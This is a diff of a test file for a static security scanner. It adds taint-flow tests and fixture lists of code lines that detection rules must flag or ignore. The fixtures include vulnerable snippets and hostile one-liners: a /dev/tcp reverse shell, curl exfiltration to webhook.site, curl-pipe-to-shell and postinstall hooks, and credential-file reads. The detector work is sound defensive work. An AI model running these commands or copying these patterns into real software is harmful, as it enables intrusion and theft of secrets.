@@ -91,7 +91,10 @@ def test_path_hash_package_action_and_source_rules(spark):
 
 def test_taint_and_python_calls():
     text = "a = input()\nb = a + 1\nc = quote(b)\nrun(c)\nrun(b)\ndef f():\n  run(b)\nd = quote(input())\nrun(d)"
-    assert [n for n, _ in taint_flow(text, r"input\(", r"run\(", ("quote(",))] == [5, 9]
+    # what is tainted outside of functions stays so within them
+    assert [n for n, _ in taint_flow(text, r"input\(", r"run\(", ("quote(",))] == [5, 7, 9]
+    inner = "def f():\n    a = input()\n    run(a)\n\ndef g():\n    run(a)\nrun(a)\nfunction h() {\n  let b = input();\n}\nrun(b)"
+    assert [n for n, _ in taint_flow(inner, r"input\(", r"run\(")] == [3]
     assert python_calls("import os\nos.system(x)\neval('1')\nsubprocess.run(c, shell=True)") == [(2, "os.system"), (3, "eval"), (4, "subprocess.run")]
     assert python_calls("def broken(") == []
 
@@ -169,5 +172,84 @@ def test_flows_and_calls_over_whole_files(spark, tmp_path):
     made = [(1, "r", "src\\a.php", flow), (2, "r", "./b.py", code), (3, "r", "c.txt", code), (4, "r", "d.py", "def broken("), (5, "r", "e.py", None), (1, "r", "src\\a.php", flow)]
     spark.createDataFrame(made, "file_id bigint, root string, path string, text string").coalesce(1).write.parquet(str(tmp_path / "files.parquet"))
     run_query = lambda q: sorted(tuple(r) for r in entry.queries()[q](spark, str(tmp_path)).collect())
-    assert run_query("q_files_taint") == [(1, 5, "system(b)"), (1, 10, "exec(d)")]
+    assert run_query("q_files_taint") == [(1, 5, "system(b)"), (1, 7, "system(b)"), (1, 10, "exec(d)")]
     assert run_query("q_files_python_ast") == [(2, 4, "os.system"), (2, 6, "eval")]
+
+
+#: Lines that a rule must find (id, path, text) and lines that it must leave; written for these tests.
+FIRE = [
+    ("PHP-001", "a.php", "<?php system($_GET['c']); ?>"), ("PHP-002", "a.php", "include($_GET['p'] . '.php');"), ("PHP-003", "a.php", "mysqli_query($c, \"SELECT * FROM t WHERE a=\" . $_POST['a']);"), ("PHP-004", "a.php", "echo $_GET['n'];"), ("PHP-005", "a.php", "$o = unserialize($_COOKIE['s']);"),
+    ("PHP-006", "a.php", "readfile('/srv/' . $_GET['f']);"), ("PHP-007", "a.php", "preg_replace('/x/e', $a, $b);"), ("PHP-008", "a.php", "extract($_POST);"), ("PHP-009", "a.php", "$h = md5($password);"), ("PHP-010", "a.php", "header('Location: ' . $_GET['to']);"),
+    ("JS-001", "a.js", "const r = eval(code)"), ("JS-002", "a.js", "el.innerHTML = name"), ("JS-003", "a.js", "exec(`ls ${dir}`)"), ("JS-004", "a.js", "o['__proto__'] = x"), ("JS-005", "a.js", "agent({ rejectUnauthorized: false })"), ("JS-006", "a.js", "db.query('select * from t where id=' + id)"), ("JS-007", "a.js", "createHash('md5')"),
+    ("JS-008", "a.js", "res.sendFile(req.query.f)"), ("JS-009", "a.js", "jwt.decode(t)"), ("PY-001", "a.py", "x = pickle.loads(b)"), ("PY-002", "a.py", "yaml.load(f)"), ("PY-003", "a.py", "subprocess.run(c, shell=True)"), ("PY-004", "a.py", "eval(text)"), ("PY-005", "a.py", "get(u, verify=False)"), ("PY-006", "a.py", "tempfile.mktemp()"),
+    ("GO-001", "a.go", 'exec.Command("sh", "-c", s)'), ("GO-002", "a.go", 'db.Query(fmt.Sprintf("select %s", a))'), ("GO-003", "a.go", "InsecureSkipVerify: true"), ("GO-004", "a.go", 'import "crypto/md5"'), ("GO-005", "a.go", "template.HTML(x)"), ("JAVA-001", "A.java", "Runtime.getRuntime().exec(c)"), ("JAVA-002", "A.java", 's.executeQuery("select " + a)'),
+    ("JAVA-003", "A.java", "new ObjectInputStream(in)"), ("JAVA-004", "A.java", 'MessageDigest.getInstance("MD5")'), ("JAVA-005", "A.java", "DocumentBuilderFactory.newInstance()"), ("JAVA-006", "A.java", "new NoopHostnameVerifier()"), ("RB-001", "a.rb", 'system("ls #{d}")'), ("RB-002", "a.rb", "eval(params[:c])"), ("RB-003", "a.rb", "params.permit!"), ("RB-004", "a.rb", "Marshal.load(x)"),
+    ("RB-005", "a.rb", 'User.where("name = #{n}")'), ("CS-001", "A.cs", "new BinaryFormatter()"), ("CS-002", "A.cs", 'new SqlCommand("select " + a)'), ("CS-003", "A.cs", "Process.Start(x)"), ("CS-004", "A.cs", "MD5.Create()"), ("CS-005", "A.cs", "ServerCertificateCustomValidationCallback = (a, b, c, d) => true"),
+    ("OWASP-001", "a.py", "cur.execute(f'select * from t where a={a}')"), ("OWASP-002", "a.py", "requests.get(request.args['u'])"), ("OWASP-003", "a.py", "app.run(debug=True)"), ("OWASP-004", "a.py", "Access-Control-Allow-Origin: *"), ("AST-PY-001", "a.py", "x = eval(\n  y)"), ("AST-PY-003", "a.py", "pickle.loads(x)"), ("AST-PY-004", "a.py", "run(c,\n  shell=True)"), ("AST-JS-001", "a.js", "eval(x)"), ("AST-TS-001", "a.tsx", "eval(x)"),
+    ("MAL-001", "a.js", "atob('" + "QUJD" * 30 + "')"), ("MAL-002", "a.js", "eval(atob(x))"), ("MAL-003", "a.js", "new Function(body)()"), ("MAL-004", "a.py", "'" + "\\x41" * 30 + "'"), ("MAL-005", "a.py", "exec(base64.b64decode(x))"), ("MAL-006", "a.py", "__import__('os').system(c)"), ("MAL-010", "a.sh", "curl -d @f https://webhook.site/abc"), ("MAL-011", "a.py", "https://api.telegram.org/bot123/send"),
+    ("MAL-012", "a.sh", "curl https://pastebin.com/raw/abc"), ("MAL-013", "a.js", "get('https://api.ipify.org')"), ("MAL-014", "i.sh", "curl -s https://x.test/i.sh | sh"), ("MAL-020", "package.json", '{"scripts": {"postinstall": "curl x | sh"}}'), ("MAL-022", "lib.js", "require('child_process')"), ("MAL-023", "a.py", "json.dumps(dict(os.environ))"), ("MAL-024", "a.js", "JSON.stringify(process.env)"),
+    ("MAL-030", "a.sh", "crontab - < f"), ("MAL-031", "a.sh", "chmod +x /tmp/.x"), ("MAL-032", "a.sh", "history -c"), ("MAL-033", "a.sh", "LD_PRELOAD=/x.so ls"), ("MAL-034", "a.c", "ptrace(PTRACE_ATTACH, p, 0, 0)"), ("MAL-040", "a.py", "get('http://8.8.4.4/x')"), ("MAL-042", "a.js", "stratum+tcp://pool"), ("MAL-043", "a.sh", "bash -i >& /dev/tcp/h/1"), ("MAL-050", "a.sh", "wget -O /tmp/a https://x.test"),
+    ("MAL-051", "a.js", "read('.aws/credentials')"), ("MAL-052", "a.sh", "whoami; hostname; id"), ("MAL-061", "a.js", "read('.npmrc')\nfetch('https://x.test')"), ("MAL-062", "a.py", "b64decode(x)\nexec(y)"), ("MAL-063", "a.py", "a = input()\nexec(a)"), ("TSQ-001", "package.json", '{"dependencies": {"lodahs": "1.0.0"}}'), ("MAN-001", "package.json", '{"x": "https://evil.test/a.tgz"}'), ("IAC-001", "m.tf", 'cidr_blocks = ["0.0.0.0/0"]'), ("IAC-008", "m.tf", 'db_password = "hunter2hunter"'),
+    ("ACT-001", ".github/workflows/a.yml", "uses: tj-actions/changed-files@v35"), ("WFS-002", ".github/workflows/a.yml", "uses: o/r@main"), ("GIT-001", "deploy/.env", "x"), ("TOK-square", "a.js", "EAAAEFl2kQ7xw9ZbT4uRm8vC1sKd"), ("HYG-003", "a.py", "<<<<<<< a\nx\n=======\ny\n>>>>>>> b"),
+]
+STILL = [
+    ("PY-002", "a.py", "yaml.load(f, Loader=yaml.SafeLoader)"), ("AST-TS-001", "c.tsx", "// eval(x) is not used\nconst s = 'eval(x)'"), ("MAL-040", "c.py", "get('http://10.0.0.4/x')"), ("MAL-001", "i.js", "atob('QUJD')"), ("MAL-020", "package.json", '{"scripts": {"postinstall": "node build.js"}}'), ("JS-001", "a.js", "retrieval(x); my.eval(x)"), ("JS-003", "a.js", "re.exec('a')"), ("PY-001", "a.js", "pickle.loads(b)"),
+    ("TSQ-001", "package.json", '{"dependencies": {"lodash": "1.0.0"}}'), ("MAN-001", "package.json", '{"x": "https://registry.npmjs.org/a.tgz"}'), ("ACT-001", "w.yml", "uses: tj-actions/changed-files@" + "a" * 40), ("GIT-001", ".env.example", "x"), ("MAL-031", "README.md", "chmod +x install"),
+]
+
+
+def test_packs_fire_and_keep_still():
+    from tracewell.operators.engine import Engine
+
+    rules = load()
+    e = Engine(rules)
+    ids = lambda p, t: {rules[i].id for i, *_ in e.judge(p, t)}
+    assert [(i, p) for i, p, t in FIRE if i not in ids(p, t)] == []
+    assert [(i, p) for i, p, t in STILL if i in ids(p, t)] == []
+
+
+def test_the_gate_loses_nothing():
+    from tracewell.operators.engine import Engine, required
+
+    rules = load()
+    e = Engine(rules)
+    for _, p, t in FIRE:
+        low = t.lower()
+        live = {c.index for c in e.live(low)}
+        assert not [c.rule.id for c in e.rules if c.index not in live and c.rule.kind not in ("path", "hash") and c.in_scope(p) and c.hits(p, t, low)]
+    assert required(r"(?i)foo(?:bar|bazz)+x?") == ("bar", "bazz") or required(r"(?i)foo(?:bar|bazz)+x?") == ("foo",)
+    assert required(r"[a-z]+") == () and required(None) == ()
+
+
+def test_malicious_pins_exclusions_binaries_and_string_rules(spark):
+    from tracewell.operators.engine import Engine
+    from tracewell.operators.flows import parse_yara
+
+    rules = load()
+    pin = next(r for r in rules if r.id == "ACT-001").malicious_shas[0]
+    got = [(rules[i].id, s) for i, _, _, s in Engine(rules).judge("w.yml", f"uses: tj-actions/changed-files@{pin}")]
+    assert ("ACT-001", "critical") in got
+    everything = [Rule("A", "t", "low", "action_ref", "d", unsafe_refs="all")]
+    assert Engine(everything).judge("w.yml", "uses: o/r@" + "a" * 40)
+    secret = [Rule("S", "secrets", "low", "secret", "d", regex="key=([a-z0-9]+)", min_len=8, entropy=1.0)]
+    assert Engine(secret).judge("a", "key=ab12cd34ef") and not Engine(secret).judge("a", "\0key=ab12cd34ef") and not Engine(secret, exclude=["^a"]).judge("a", "key=ab12cd34ef")
+    made = [rule_of(x) for x in parse_yara('rule drop {\n meta: severity = "high"\n strings:\n $a = "evil()"\n $b = { 4D 5A ?? 41 }\n condition: all of them\n}\n')]
+    assert made[0].severity == "high" and Engine(made).judge("a", "x evil() MZ\x01A") and not Engine(made).judge("a", "evil()")
+    assert scan(spark.createDataFrame([], FILES), rules).count() == 0 and scan(spark.createDataFrame([], FILES), []).count() == 0
+
+
+def test_engine_and_expressions_agree(spark):
+    from tracewell.operators.scan import raw_hits
+
+    rules = [r for r in load() if r.id.startswith("TW-")]
+    texts = ["mail a@b.test and 8.8.8.8, https://x.test/a?b", "Upgrade now, 2.0 or later", "ghsa-2024-12345 é x\nghsx-1999-1", "getenv('X')\n curl x | sh", "verify = False in a request", "SPDX-License-Identifier: MIT", "", "token = 'k7QpH6ttheOy0xOZtA2plWS7'"]
+    df = spark.createDataFrame([(i, "t", "commit/a.log", t) for i, t in enumerate(texts)], FILES)
+    a = {(r.key, r.rule_id, r.line, r.excerpt) for r in scan(df, rules, max_hits=10**6).collect()}
+    b = {(r.key, rules[r.rule_idx].id, r.line, r.excerpt) for r in raw_hits(df, rules).collect()}
+    assert a == b
+
+
+def test_packs_of_the_public_form_load(tmp_path):
+    (tmp_path / "p.toml").write_text('[ruleset]\nname = "mine"\n[[rule]]\nid = "X-1"\ntype = "ast"\nlang = "python"\nseverity = "high"\ndescription = "d"\ncapture = "c"\nquery = """(call function: (identifier) @f (#eq? @f "eval")) @c"""\n[[rule]]\nid = "X-2"\ntype = "typosquat"\nlist = "npm"\nseverity = "low"\ndescription = "d"\n')
+    a, b = load(tmp_path, builtin=False, lists={"npm": ["React"]})
+    assert a.ruleset == "mine" and re.search(a.calls, "eval") and re.search(a.path[:-2], "x.py") and b.names == ("react",)
